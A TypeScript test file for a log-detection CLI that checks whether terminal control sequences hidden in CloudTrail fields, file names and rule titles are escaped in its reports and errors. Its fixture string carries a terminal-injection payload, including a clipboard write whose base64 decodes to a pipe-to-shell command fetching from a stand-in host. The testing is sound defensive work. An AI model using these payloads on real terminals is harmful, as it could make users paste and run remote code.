import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import test from 'ava';
import { runCli, tempDir } from '../helpers/cli.js';

/** Anything a terminal would act on: ESC (CSI, OSC), BEL, NUL, C1 CSI, carriage return, bidi overrides. */
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
/** OSC 52 writes the clipboard, CSI 2J clears the screen; NUL, BEL and a C1 CSI come along. */
const EVIL = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u001b[2J\u0000\u009b31m\r\u202e';

/** One CloudTrail file whose attacker-chosen fields (user agent, role session name) carry terminal controls. */
async function hostileLogs(): Promise<string> {
  const dir = await tempDir('cloudward-detect-ctl-');
  const record = {
    eventVersion: '1.08',
    eventTime: '2026-01-01T10:00:00Z',
    eventSource: 'sts.amazonaws.com',
    eventName: 'GetCallerIdentity',
    awsRegion: 'us-east-1',
    sourceIPAddress: '203.0.113.77',
    userAgent: `TruffleHog${EVIL}`,
    userIdentity: {
      type: 'AssumedRole',
      principalId: 'AROAEXAMPLE:mallory',
      arn: `arn:aws:sts::111122223333:assumed-role/ci/mallory${EVIL}`,
      accountId: '111122223333',
      accessKeyId: 'ASIAEXAMPLE000000001',
      sessionContext: {
        sessionIssuer: { type: 'Role', arn: 'arn:aws:iam::111122223333:role/ci', userName: 'ci' },
        attributes: { mfaAuthenticated: 'false' },
      },
    },
    recipientAccountId: '111122223333',
  };
  await writeFile(
    join(dir, `trail${'\u001b[1m'}.json`),
    JSON.stringify({
      Records: [record, { eventTime: `nope${EVIL}`, eventSource: 'iam.amazonaws.com', eventName: 'ListUsers' }],
    }),
  );
  return dir;
}

/** A rule file whose title and response carry controls too: rules come from the user's folders. */
async function hostileRule(): Promise<string> {
  const dir = join(await tempDir(), 'rules');
  await mkdir(dir);
  const rule = (await readFile(join(process.cwd(), 'detections', 'offensive-tool-user-agent.yaml'), 'utf8'))
    .replace('id: offensive-tool-user-agent', 'id: hostile-tool-user-agent')
    .replace('title: Offensive tool user agent', 'title: "Hostile \\e]0;t\\a tool"');
  await writeFile(join(dir, 'hostile-tool-user-agent.yaml'), rule);
  return dir;
}

const visible = (text: string) => JSON.stringify(text);

test('detect escapes controls from log values in the text report, the summaries and the findings', async (t) => {
  const logs = await hostileLogs();
  const runs = [
    await runCli(['detect', logs, '--fail-on', 'none', '--skip-bad-records']),
    await runCli(['detect', logs, '--fail-on', 'none', '--skip-bad-records', '--verbose', '-f', 'text']),
    await runCli([
      'detect',
      logs,
      '--fail-on',
      'high',
      '--skip-bad-records',
      '--output-dir',
      join(await tempDir(), `out${'\u001b[3m'}`),
      '-f',
      'text,json',
    ]),
  ];
  for (const run of runs) {
    t.not(run.code, 2, run.stderr);
    t.false(CONTROL.test(run.stdout), visible(run.stdout));
    t.false(CONTROL.test(run.stderr), visible(run.stderr));
  }
  t.true(runs[0]!.stdout.includes('TruffleHog\\x1b]52;c;'), 'the user agent is shown with its escapes visible');
  t.true(runs[0]!.stdout.includes('mallory\\x1b]52;c;'), 'and so is the session name');
  t.regex(runs[0]!.stdout, /unreadable record/);
});

test("the JSON report keeps the attacker's bytes as data, escaped by JSON itself", async (t) => {
  const logs = await hostileLogs();
  const out = join(await tempDir(), 'r.json');
  const run = await runCli(['detect', logs, '--fail-on', 'none', '--skip-bad-records', '-f', 'json', '-o', out]);
  t.is(run.code, 0, run.stderr);
  const report = JSON.parse(await readFile(out, 'utf8')) as { findings: Array<{ client: { evidence: string } }> };
  t.true(report.findings.some((f) => f.client.evidence.includes('\u001b]52')));
});

test('detect errors that quote a log value or a path are escaped, stack traces under --debug included', async (t) => {
  const logs = await hostileLogs();
  for (const args of [[], ['--debug'], ['-f', 'te\u001b[2Jxt', '--debug']]) {
    const run = await runCli(['detect', logs, ...args]);
    t.is(run.code, 2);
    t.false(CONTROL.test(run.stderr), visible(run.stderr));
    t.regex(run.stderr, /\\x1b\[(1m|2J)/);
  }
});

test('rule titles and test names from a rule folder are escaped in --list-rules and --test', async (t) => {
  const rules = await hostileRule();
  for (const args of [['--list-rules'], ['--test', '--verbose']]) {
    const run = await runCli(['detect', '--no-builtin-rules', '--rules', rules, ...args]);
    t.is(run.code, 0, run.stderr);
    t.true(run.stdout.includes('hostile-tool-user-agent'));
    t.false(CONTROL.test(run.stdout), visible(run.stdout));
  }
});
